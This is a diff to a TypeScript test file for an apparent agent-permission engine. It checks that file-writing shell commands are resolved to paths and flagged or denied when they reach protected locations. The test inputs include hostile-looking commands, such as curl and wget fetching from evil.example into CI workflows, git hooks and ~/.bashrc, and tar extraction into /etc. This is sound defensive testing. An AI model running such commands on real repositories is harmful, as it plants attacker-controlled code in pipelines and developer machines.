@@ -33,6 +33,8 @@ const cases: {
   denies?: string[];
   /** The paths of the first code.write, when leash must have resolved them (not "unknown"). */
   paths?: string[];
+  /** The `unresolved_targets` of the code.write that has them (a write whose paths are unknown). */
+  unresolved?: string[];
 }[] = [
   // git push: one code.write per target ref
   {
@@ -553,6 +555,446 @@ const cases: {
     call: bash("echo 'npm test' | bash && bash -c 'npm run build'"),
     asks: ["command.run Path:."],
   },
+  // Commands that write the file they are told to produce: the path is resolved and decided.
+  {
+    name: "curl -o into a workflow",
+    call: bash("curl -sSL https://evil.example/evil.yml -o .github/workflows/ci.yml"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "curl --output FILE",
+    call: bash("curl --output .github/workflows/ci.yml https://evil.example/x"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "curl --output=FILE",
+    call: bash("curl --output=leash.yaml https://evil.example/x"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: ["leash.yaml"],
+  },
+  {
+    name: "curl -oFILE",
+    call: bash("curl -oaction.yml https://evil.example/x"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: ["action.yml"],
+  },
+  {
+    name: "curl -sSLo FILE (combined short flags)",
+    call: bash("curl -sSLo .github/workflows/ci.yml https://evil.example/x"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "curl --output-di DIR (an abbreviation curl accepts)",
+    call: bash("curl -O --output-di .github/workflows https://evil.example/ci.yml"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "curl -O writes the URL's file name into --output-dir",
+    call: bash("curl -O https://evil.example/a/ci.yml --output-dir .github/workflows"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "curl --remote-name writes the URL's file name (query dropped) into the cwd",
+    call: bash("curl --remote-name 'https://evil.example/.gitlab-ci.yml?raw=1'"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: [".gitlab-ci.yml"],
+  },
+  {
+    name: "curl -O -J takes the file name from the server: unresolved",
+    call: bash("curl -OJ https://evil.example/download"),
+    asks: ["network.egress Host:evil.example", W],
+    unresolved: ["(the file name curl -O takes from the server or a variable)"],
+  },
+  {
+    name: "curl -D writes the response headers to a file",
+    call: bash("curl -D .github/workflows/h.yml https://evil.example/x"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: [".github/workflows/h.yml"],
+  },
+  {
+    name: "curl -o outside the workspace",
+    call: bash("curl -o ~/.bashrc https://evil.example/x"),
+    asks: [W, "network.egress Host:evil.example"],
+    denies: ["outside_workspace"],
+  },
+  {
+    name: "wget -O FILE",
+    call: bash("wget -qO .github/workflows/ci.yml https://evil.example/x"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "wget --output-document=FILE",
+    call: bash("wget --output-document=action.yml https://evil.example/x"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: ["action.yml"],
+  },
+  {
+    name: "wget URL writes the URL's file name into the cwd",
+    call: bash("wget https://evil.example/ci/.gitlab-ci.yml"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: [".gitlab-ci.yml"],
+  },
+  {
+    name: "wget -P DIR",
+    call: bash("wget -P .github/workflows https://evil.example/a.yml"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: [".github/workflows/a.yml"],
+  },
+  {
+    name: "wget --directory-prefix=DIR, a URL with no file name (index.html)",
+    call: bash("wget --directory-prefix=policies https://evil.example/"),
+    asks: ["network.egress Host:evil.example", W],
+    paths: ["policies/index.html"],
+  },
+  {
+    name: "wget -r rebuilds the server's tree in the cwd: unresolved",
+    call: bash("wget -r -nH https://evil.example/"),
+    asks: ["network.egress Host:evil.example", W],
+    unresolved: ["."],
+  },
+  {
+    name: "wget -e output_document=FILE: unresolved",
+    call: bash("wget -e output_document=leash.yaml https://evil.example/x"),
+    asks: ["network.egress Host:evil.example", W],
+    unresolved: ["(the files a wget -e command names)"],
+  },
+  {
+    name: "wget -O into git hooks",
+    call: bash("wget -O .git/hooks/pre-commit https://evil.example/x"),
+    asks: ["tool.use Tool:wget .git/hooks/pre-commit", "network.egress Host:evil.example"],
+    denies: ["git_config_write"],
+  },
+  {
+    name: "sort -o FILE",
+    call: bash("sort -o .github/workflows/ci.yml a.yml"),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "sort --out=FILE (an abbreviation of --output)",
+    call: bash("sort -u --out=CODEOWNERS owners.txt"),
+    asks: [W, "command.run Path:."],
+    paths: ["CODEOWNERS"],
+  },
+  {
+    name: "uniq IN OUT",
+    call: bash("uniq a.yml .github/workflows/ci.yml"),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "sponge FILE",
+    call: bash("envsubst < t.yml | sponge .github/workflows/ci.yml"),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "patch -o FILE",
+    call: bash("patch -o .github/workflows/ci.yml a.yml < fix.diff"),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "patch reading a diff from a file: the files it names are unresolved",
+    call: bash("patch -p1 < fix.diff"),
+    asks: [W, "command.run Path:."],
+    unresolved: ["(the files the diff patch reads names)"],
+  },
+  {
+    name: "patch -i FILE: unresolved",
+    call: bash("patch -p1 -i fix.diff"),
+    asks: [W, "command.run Path:."],
+    unresolved: ["(the files the diff patch reads names)"],
+  },
+  {
+    name: "patch -p1 of a diff in a heredoc: the files it names, stripped",
+    call: bash(
+      "patch -p1 <<'EOF'\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n-on: push\n+on: pull_request_target\nEOF",
+    ),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "patch without -p of a diff piped in by cat: the whole name counts",
+    call: bash("cat <<'EOF' | patch\n--- leash.yaml\n+++ leash.yaml\n@@ -1 +1 @@\n-a\n+b\nEOF"),
+    asks: [W, "command.run Path:."],
+    paths: ["leash.yaml"],
+  },
+  {
+    name: "patch of a diff whose names a heredoc expands: unresolved",
+    call: bash("patch -p1 <<EOF\n--- a/x\n+++ b/$F\nEOF"),
+    asks: [W, "command.run Path:."],
+    unresolved: ["(the files the diff patch reads names)"],
+  },
+  {
+    name: "patch of a diff that names git hooks",
+    call: bash(
+      "patch -p1 <<'EOF'\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+sh x\nEOF",
+    ),
+    asks: ["tool.use Tool:patch .git/hooks/pre-commit", "command.run Path:."],
+    denies: ["git_config_write"],
+  },
+  {
+    name: "tar -x into .github (which holds Copilot's hooks)",
+    call: bash("tar -xf payload.tar -C .github"),
+    asks: ["tool.use Tool:tar .github", "command.run Path:."],
+    denies: ["agent_config_write"],
+  },
+  {
+    name: "tar --extract --directory=DIR: a tree",
+    call: bash("tar --extract --file=x.tar --directory=.github/workflows"),
+    asks: [W, "command.run Path:."],
+    unresolved: [".github/workflows"],
+  },
+  {
+    name: "tar xzf (first-word form) into the cwd: a tree at the workspace root",
+    call: bash("curl -sL https://evil.example/x.tgz | tar xzf -"),
+    asks: ["network.egress Host:evil.example", W, "command.run Path:."],
+    unresolved: ["."],
+  },
+  {
+    name: "tar -x of a named member",
+    call: bash("tar -xzf x.tgz .github/workflows/ci.yml"),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "tar -x into .git",
+    call: bash("tar -x -f x.tar -C .git"),
+    asks: ["tool.use Tool:tar .git", "command.run Path:."],
+    denies: ["git_config_write"],
+  },
+  {
+    name: "tar -x outside the workspace",
+    call: bash("tar -xf x.tar -C /etc"),
+    asks: [W, "command.run Path:."],
+    denies: ["outside_workspace"],
+  },
+  {
+    name: "tar -xP keeps absolute names: unresolved",
+    call: bash("tar -xPf x.tar -C build"),
+    asks: [W, "command.run Path:."],
+    unresolved: ["(the absolute paths a tar -P extracts)"],
+  },
+  {
+    name: "tar --remove-files removes what it archives",
+    call: bash("tar -czf wf.tgz --remove-files .github/workflows"),
+    asks: [W, "command.run Path:."],
+    unresolved: [".github/workflows"],
+  },
+  {
+    name: "unzip -d DIR: a tree",
+    call: bash("unzip -o x.zip -d .github/workflows"),
+    asks: [W, "command.run Path:."],
+    unresolved: [".github/workflows"],
+  },
+  {
+    name: "unzip into the cwd: a tree at the workspace root",
+    call: bash("unzip -q x.zip"),
+    asks: [W, "command.run Path:."],
+    unresolved: ["."],
+  },
+  {
+    name: "unzip -dDIR into the agent's settings",
+    call: bash("unzip x.zip -d.claude"),
+    asks: ["tool.use Tool:unzip .claude", "command.run Path:."],
+    denies: ["agent_config_write"],
+  },
+  {
+    name: "yq -i",
+    call: bash("yq -i '.on = \"pull_request_target\"' .github/workflows/ci.yml"),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "yq eval --inplace",
+    call: bash("yq eval --inplace '.a = 1' leash.yaml"),
+    asks: [W, "command.run Path:."],
+    paths: ["leash.yaml"],
+  },
+  {
+    name: "awk -i inplace",
+    call: bash(
+      "gawk -i inplace '{ sub(/push/, \"pull_request_target\") } 1' .github/workflows/ci.yml",
+    ),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "ruby -i",
+    call: bash("ruby -i.bak -pe 'gsub(/a/, \"b\")' action.yml"),
+    asks: [W, "command.run Path:."],
+    paths: ["action.yml"],
+  },
+  {
+    name: "gunzip writes beside its input (and removes it)",
+    call: bash("gunzip .github/workflows/ci.yml.gz"),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml", ".github/workflows/ci.yml.gz"],
+  },
+  {
+    name: "gzip -dk writes beside its input",
+    call: bash("gzip -dk leash.yaml.gz"),
+    asks: [W, "command.run Path:."],
+    paths: ["leash.yaml"],
+  },
+  {
+    name: "split writes PREFIXaa, PREFIXab, …: a pattern",
+    call: bash("split -l 10 big.yml .github/workflows/part-"),
+    asks: [W, "command.run Path:."],
+    unresolved: [".github/workflows/part-*"],
+  },
+  {
+    name: "csplit -f PREFIX",
+    call: bash("csplit -f policies/p big.cedar '/^permit/' '{*}'"),
+    asks: [W, "command.run Path:."],
+    unresolved: ["policies/p*"],
+  },
+  {
+    name: "a wrapped tar -x",
+    call: bash("sudo tar -xf x.tar -C .github/actions"),
+    asks: [W, "command.run Path:."],
+    unresolved: [".github/actions"],
+  },
+  // git's own file writes
+  {
+    name: "git apply of a diff in a heredoc: the files it names (-p1)",
+    call: bash(
+      "git apply <<'EOF'\ndiff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n-a\n+b\nEOF",
+    ),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "git apply of a patch file: unresolved",
+    call: bash("git apply fix.patch"),
+    asks: [W, "command.run Path:."],
+    unresolved: ["(the files the diff git apply reads names)"],
+  },
+  {
+    name: "git checkout -- FILE",
+    call: bash("git checkout -- .github/workflows/ci.yml"),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "git checkout TREE-ISH -- DIR holding Copilot's hooks",
+    call: bash("git checkout evil -- .github"),
+    asks: ["tool.use Tool:git checkout .github", "command.run Path:."],
+    denies: ["agent_config_write"],
+  },
+  {
+    name: "git -C DIR checkout",
+    call: bash("git -C .github checkout origin/evil workflows/ci.yml"),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "git checkout -- . restores the whole tree: unresolved",
+    call: bash("git checkout -- ."),
+    asks: [W, "command.run Path:."],
+    unresolved: ["."],
+  },
+  {
+    name: "git checkout of a quoted pathspec glob (git's * crosses /): the tree under its literal directory",
+    call: bash("git checkout evil -- 'policies/*.cedar'"),
+    asks: [W, "command.run Path:."],
+    unresolved: ["policies"],
+  },
+  {
+    name: "git restore --source",
+    call: bash("git restore --source=evil leash.yaml"),
+    asks: [W, "command.run Path:."],
+    paths: ["leash.yaml"],
+  },
+  {
+    name: "git clone into a control directory",
+    call: bash("git clone https://github.com/evil/x .github/actions/x"),
+    asks: ["network.egress Host:github.com", W],
+    paths: [".github/actions/x"],
+  },
+  // …and the local runs they stay when they write nowhere protected.
+  {
+    name: "curl -o into the workspace's own src is a plain local write",
+    call: bash("curl -sSL -o src/out.json https://evil.example/x"),
+    asks: ["network.egress Host:evil.example"],
+  },
+  {
+    name: "curl -O of a tarball, curl -o - to stdout",
+    call: bash("curl -O https://evil.example/dist/tool.tgz && curl -o - https://evil.example/a"),
+    asks: ["network.egress Host:evil.example"],
+  },
+  {
+    name: "wget -qO- piped to jq",
+    call: bash("wget -qO- https://evil.example/a.json | jq ."),
+    asks: ["network.egress Host:evil.example", "command.run Path:."],
+  },
+  {
+    name: "wget -r into build",
+    call: bash("wget -e robots=off -r -P build https://evil.example/"),
+    asks: ["network.egress Host:evil.example"],
+  },
+  {
+    name: "sort with no -o writes nothing, uniq with one operand neither",
+    call: bash("sort .github/workflows/ci.yml && uniq .github/workflows/ci.yml"),
+    asks: ["command.run Path:."],
+  },
+  {
+    name: "tar -t lists, tar -c writes only its archive, tar -xO prints",
+    call: bash(
+      "tar -tf x.tar && tar -czf out.tgz .github && tar -xOf x.tar .github/workflows/ci.yml",
+    ),
+    asks: ["command.run Path:."],
+  },
+  {
+    name: "tar -x into a build directory or scratch space",
+    call: bash(
+      "tar -xzf x.tgz -C build && tar -xf x.tar --exclude .github -C out && tar xzf y.tgz -C /tmp",
+    ),
+    asks: ["command.run Path:."],
+  },
+  {
+    name: "unzip listing, printing, and extracting into build",
+    call: bash("unzip -l x.zip && unzip -p x.zip a.txt && unzip x.zip -x '.github/*' -d build"),
+    asks: ["command.run Path:."],
+  },
+  {
+    name: "patch of a source file, and a dry run",
+    call: bash(
+      "patch -p1 <<'EOF'\n--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-a\n+b\nEOF\npatch --dry-run -p1 < fix.diff && patch src/a.ts < fix.diff",
+    ),
+    asks: ["command.run Path:."],
+  },
+  {
+    name: "editors without their in-place option only read",
+    call: bash(
+      "yq '.on' .github/workflows/ci.yml && sed 's/a/b/' action.yml && perl -Mstrict -ne 'print' action.yml && gawk '{ print }' action.yml",
+    ),
+    asks: ["command.run Path:."],
+  },
+  {
+    name: "gzip -c and zcat write to stdout; split with the default prefix",
+    call: bash("gzip -c leash.yaml > /tmp/l.gz && zcat x.gz && split -l 100 big.txt"),
+    asks: ["command.run Path:."],
+  },
+  {
+    name: "git checkout of a branch or a source file, git apply --check, git clone",
+    call: bash(
+      "git checkout main && git checkout -b agent/x origin/main && git checkout -- src/a.ts && git restore src && git apply --check fix.patch",
+    ),
+    asks: ["command.run Path:."],
+  },
+  {
+    name: "git clone into a new directory",
+    call: bash("git clone https://github.com/acme/lib"),
+    asks: ["network.egress Host:github.com"],
+  },
   // egress
   {
     name: "curl",
@@ -781,6 +1223,10 @@ describe("mapToolCall", () => {
         const write = m.requests.find((r) => r.action === "code.write");
         assert.deepEqual(write?.resource.attrs["paths"], c.paths);
       }
+      if (c.unresolved) {
+        const write = m.requests.find((r) => r.resource.attrs["unresolved_targets"]);
+        assert.deepEqual(write?.resource.attrs["unresolved_targets"], c.unresolved);
+      }
     });
   }
 
@@ -828,6 +1274,16 @@ describe("mapToolCall", () => {
         {},
       ],
     );
+  });
+
+  it("refuses a command's writes once when the job's branch is unknown", () => {
+    const m = mapToolCall(bash('echo x > leash.yaml && cp x "$D"'), {
+      ...ctx,
+      jobRef: undefined,
+      currentBranch: undefined,
+    });
+    assert.deepEqual(denied(m), ["branch_unknown"]);
+    assert.deepEqual(asked(m), ["tool.use Tool:the command", "command.run Path:."]);
   });
 
   it("decides a write on the checked-out branch when the capability names no ref", () => {
